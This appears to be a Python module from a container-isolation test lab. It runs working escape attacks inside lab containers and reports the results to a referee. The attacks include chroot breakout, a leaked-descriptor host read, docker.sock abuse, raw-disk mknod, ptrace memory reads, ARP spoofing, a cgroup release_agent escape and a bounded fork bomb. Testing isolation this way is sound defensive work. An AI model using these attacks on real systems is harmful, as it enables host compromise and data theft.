"""What a process tries from inside a container; each attack goes for one thing that ``labs.security`` laid out for it.

Nothing here is run anywhere but in containers which ``labs.security`` starts, on a lab machine.  Every attack
returns evidence: what it read, or what it did.  Whether that was really reached is not for it to say: the referee
outside looks.  Where success would hurt the machine the attack takes the mildest form that asks for the same
right: the value that is there already is written once more, a module is loaded that is none.

``python3 -m labs.attacks`` inside the container connects to the referee, gets the plan (JSON, and one file
descriptor), and makes each attack in a child of its own.  It needs Python's own library and nothing else.
"""

from __future__ import annotations

import _thread
import ctypes
import errno
import json
import os
import signal
import socket
import stat
import struct
import sys
from collections.abc import Callable
from contextlib import suppress
from typing import Any, NamedTuple, TypeAlias

from labs import machine, process, syscalls
from labs.capability_trials import sets_tick, system_call
from labs.errors import ChildFailed, KernelError

Plan: TypeAlias = dict[str, Any]
STAGE = "/stage"
MARK = b"labs-secret:"
WIRE = "wire0"
# <linux/keyctl.h>
SESSION_KEYRING, USER_KEYRING = -3, -4
KEYCTL_LINK, KEYCTL_SEARCH, KEYCTL_READ, KEYCTL_INVALIDATE = 8, 10, 11, 21
ETH_P_ARP, ARPHRD_ETHER, ETH_P_IP, ARPOP_REPLY = 0x0806, 1, 0x0800, 2  # <linux/if_ether.h>, if_arp.h

def _read(path: str, folder: int | None = None) -> str:
    fd = os.open(path, os.O_RDONLY, dir_fd=folder)
    return os.read(fd, 4096).decode(errors="replace")


# --- out of the root ---


def chroot_break(plan: Plan) -> str:
    """Sit in a chroot, keep a directory outside the next one, and walk up from there: chroot(2), "Notes"."""
    os.chroot(f"{STAGE}/jail")
    os.chdir("/")
    os.chroot("deeper")  # the working directory is above the root now
    for _ in range(8):
        os.chdir("..")
    os.chroot(".")
    return _read(f"{STAGE}/outside")


def leaked_fd(plan: Plan) -> str:
    """A descriptor of the host's root directory came in with us (as in CVE-2024-21626): openat(2) from there."""
    return _read(plan["secret"].lstrip("/"), plan["fd"])


def proc_root(plan: Plan) -> str:
    """A process of the host has just joined our PID namespace, still with its own root: proc_pid_root(5)."""
    return _read(f"/proc/{plan['neighbour']}/root{plan['secret']}")


def symlink_in_volume(plan: Plan) -> str:
    """Leave a link where a program of the host will read a report: it leads to a file of the host."""
    with suppress(FileNotFoundError):
        os.unlink(f"{STAGE}/volume/report")
    os.symlink(plan["secret"], f"{STAGE}/volume/report")
    return "planted"


# --- what was handed in ---


def docker_sock(plan: Plan) -> str:
    """Ask the daemon of the host, whose socket somebody mounted into the container."""
    return _talk(socket.AF_UNIX, f"{STAGE}/docker.sock")


def _talk(family: int, address: Any) -> str:
    """What a server says to whoever connects."""
    with socket.socket(family) as line:
        line.settimeout(1)
        try:
            line.connect(address)
            return line.recv(4096).decode()
        except TimeoutError as error:
            raise KernelError("connect", errno.ETIMEDOUT) from error


def raw_disk(plan: Plan) -> str:
    """Make a device node of the host's disk and read the disk beneath its filesystem: mknod(2)."""
    node = f"{STAGE}/volume/node"
    os.mknod(node, stat.S_IFBLK | 0o600, os.makedev(*plan["disk"]))
    try:
        return _after_mark(node)
    finally:
        os.unlink(node)


def _after_mark(device: str) -> str:
    """What stands behind the mark, wherever on the disk it lies."""
    with open(device, "rb") as disk:
        data = disk.read()
    return data.partition(MARK)[2][:32].decode()


def mount_disk(plan: Plan) -> str:
    """Mount the disk of the host, whose node was handed in: mount(2)."""
    syscalls.mount(f"{STAGE}/disk", "/mnt", "ext4")
    try:
        return _read("/mnt/secret").removeprefix(MARK.decode())
    finally:
        syscalls.umount2("/mnt", syscalls.MNT_DETACH)


# --- the neighbours ---


def ptrace_neighbour(plan: Plan) -> str:
    """Stop a process that shares our PID namespace and read its memory: ptrace(2), proc_pid_mem(5)."""
    pid = plan["neighbour"]
    syscalls.ptrace(syscalls.PTRACE_SEIZE, pid)
    try:
        syscalls.ptrace(syscalls.PTRACE_INTERRUPT, pid)
        os.waitid(os.P_PID, pid, os.WSTOPPED)
        memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        return os.pread(memory, 32, plan["address"]).decode()
    finally:
        syscalls.ptrace(syscalls.PTRACE_DETACH, pid)


def arp_spoof(plan: Plan) -> str:
    """Say on the wire, by a raw socket, that a neighbour's address is ours: packet(7), RFC 826."""
    ours, theirs = bytes.fromhex(plan["mac"].replace(":", "")), socket.inet_aton(plan["spoofed"])
    head = b"\xff" * 6 + ours + struct.pack("!H", ETH_P_ARP)
    body = struct.pack("!HHBBH", ARPHRD_ETHER, ETH_P_IP, 6, 4, ARPOP_REPLY)
    body += (ours + theirs) * 2  # a gratuitous reply names itself twice
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((WIRE, 0))
        raw.send((head + body).ljust(60, b"\0"))
    return "sent"


def neighbours_port(plan: Plan) -> str:
    """Connect to a neighbour's database, which trusts everybody on its network."""
    return _talk(socket.AF_INET, (plan["server"], plan["port"]))


# --- the kernel that all share ---


def sysrq(plan: Plan) -> str:
    """Give the kernel an order; this one only prints a help line: proc(5), /proc/sysrq-trigger."""
    machine.write_file("/proc/sysrq-trigger", "h")
    return "written"


def core_pattern(plan: Plan) -> str:
    """Write what the kernel starts, as root of the host, when a program crashes: core(5); here the old value."""
    pattern = machine.read_file("/proc/sys/kernel/core_pattern")
    machine.write_file("/proc/sys/kernel/core_pattern", pattern)
    return pattern


def release_agent(plan: Plan) -> str:
    """Mount a hierarchy of cgroup v1 and name a program of ours as its release agent: cgroups(7)."""
    agent, told = f"{STAGE}/volume/agent", f"{STAGE}/volume/told"
    with open(agent, "w", encoding="utf-8") as script, open(told, "wb"):
        script.write(f"#!/bin/sh\nid -u > {plan['volume']}/told\n")
    os.chmod(agent, 0o755)  # noqa: S103  the kernel is to execute it
    syscalls.mount("cgroup", "/mnt", "cgroup", 0, f"none,name={plan['hierarchy']}")
    try:
        machine.write_file("/mnt/release_agent", f"{plan['volume']}/agent")
        os.mkdir("/mnt/short-lived")
        machine.write_file("/mnt/short-lived/notify_on_release", "1")
        process.call(lambda: machine.write_file("/mnt/short-lived/cgroup.procs", "0"))
        return process.until(lambda: _read(told), 5).strip()
    finally:
        with suppress(FileNotFoundError):
            os.rmdir("/mnt/short-lived")
        syscalls.umount2("/mnt", syscalls.MNT_DETACH)


def uevent(plan: Plan) -> str:
    """Have the kernel tell udev of the host about a change of a device that nobody changed: sysfs(5)."""
    machine.write_file(f"/sys/class/block/{plan['device']}/uevent", "change")
    return "written"


def kernel_module(plan: Plan) -> str:
    """init_module(2) with a file that is no module: ENOEXEC comes only after the question whether we may."""
    try:
        system_call("init_module", b"none", 4, b"")
    except KernelError as error:
        if error.errno == errno.ENOEXEC:
            return "ENOEXEC"
        raise
    return "loaded"


def keyring(plan: Plan) -> str:
    """Look into the keyring of our user ID, which the kernel does not keep apart for containers: keyrings(7)."""
    system_call("keyctl", KEYCTL_LINK, USER_KEYRING, SESSION_KEYRING)
    key = system_call("keyctl", KEYCTL_SEARCH, USER_KEYRING, b"user", plan["key"].encode(), 0)
    text = ctypes.create_string_buffer(64)
    size = system_call("keyctl", KEYCTL_READ, key, text, len(text))
    return text.raw[:size].decode()


def clock(plan: Plan) -> str:
    """Set the length of the clock's tick to what it is: adjtimex(2)."""
    sets_tick()()
    return "set"


def fork_bomb(plan: Plan) -> str:
    """Make so many tasks that the machine has none left; this one stops at a number: fork(2), pids controller."""
    gate = _thread.allocate_lock()
    gate.acquire()
    _thread.stack_size(32768)
    for made in range(plan["tasks"]):
        try:
            _thread.start_new_thread(gate.acquire, ())
        except RuntimeError as error:  # Python's word for clone(2) that fails with EAGAIN
            raise KernelError(f"task {made}", errno.EAGAIN) from error
    return str(plan["tasks"])


# --- to be more than one is ---


def setuid_program(plan: Plan) -> str:
    """Start a program with the set-user-ID bit that the image brought along: who is it then?  execve(2)."""
    reader, writer = os.pipe()
    actions = [(os.POSIX_SPAWN_DUP2, writer, 1)]
    os.posix_spawn(f"{STAGE}/whoami", ["id", "-u"], {}, file_actions=actions)
    os.close(writer)
    return process.read_all(reader).decode().strip()


class Attack(NamedTuple):
    """An attack: what it goes for (a short label), and the function that makes it."""

    goal: str
    run: Callable[[Plan], str]


ATTACKS = {
    "chroot break": Attack("a file outside the chroot", chroot_break),
    "leaked fd": Attack("a file of the host", leaked_fd),
    "/proc/PID/root": Attack("a file of the host", proc_root),
    "symlink in volume": Attack("a file of the host", symlink_in_volume),
    "docker.sock": Attack("an answer of the daemon", docker_sock),
    "raw disk": Attack("bytes of the host's disk", raw_disk),
    "mount disk": Attack("a file on the host's disk", mount_disk),
    "ptrace": Attack("memory of a neighbour", ptrace_neighbour),
    "ARP spoof": Attack("a neighbour's ARP table", arp_spoof),
    "neighbour's port": Attack("a neighbour's database", neighbours_port),
    "sysrq": Attack("an order to the kernel", sysrq),
    "core_pattern": Attack("a sysctl of the host", core_pattern),
    "release_agent": Attack("a program run by the host", release_agent),
    "uevent": Attack("a message to udev", uevent),
    "kernel module": Attack("code in the kernel", kernel_module),
    "keyring": Attack("a key of the host's root", keyring),
    "clock": Attack("the clock of the host", clock),
    "fork bomb": Attack("the machine's tasks", fork_bomb),
    "setuid program": Attack("another user's rights", setuid_program),
}


def app(plan: Plan) -> str:
    """What the container is there for: keep a file in its volume, serve a port, and ask one service for something."""
    with open(f"{STAGE}/volume/data", "w", encoding="utf-8") as data:
        data.write("kept")
    with socket.socket() as server:
        server.bind(("0.0.0.0", 8080))  # noqa: S104  in a network of its own
        server.listen()
    return _talk(socket.AF_INET, (plan["server"], plan["service"]))


def attempt(run: Callable[[Plan], str], plan: Plan) -> tuple[str, str]:
    """One attack in a child: its evidence and "", or "" and why not (an errno's name, or the signal that ended it)."""
    try:
        found = process.call(run, plan)
    except (ChildFailed, KernelError) as error:
        return "", errno.errorcode.get(error.errno or 0, str(error))
    return (found, "") if found is not None else ("", "killed")


def main() -> int:
    """Inside: the plan from the referee, then attack by attack, and each time its nod before the next one."""
    signal.signal(signal.SIGPIPE, signal.SIG_DFL)
    line = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    line.connect(f"{STAGE}/referee.sock")
    message, fds, _, _ = socket.recv_fds(line, 1 << 16, 1)
    plan = json.loads(message) | {"fd": fds[0] if fds else -1}
    for name in plan["attacks"]:
        run = app if name == "app" else ATTACKS[name].run
        line.send(json.dumps([name, *attempt(run, plan)]).encode())
        line.recv(16)
    return 0


if __name__ == "__main__":
    sys.exit(main())
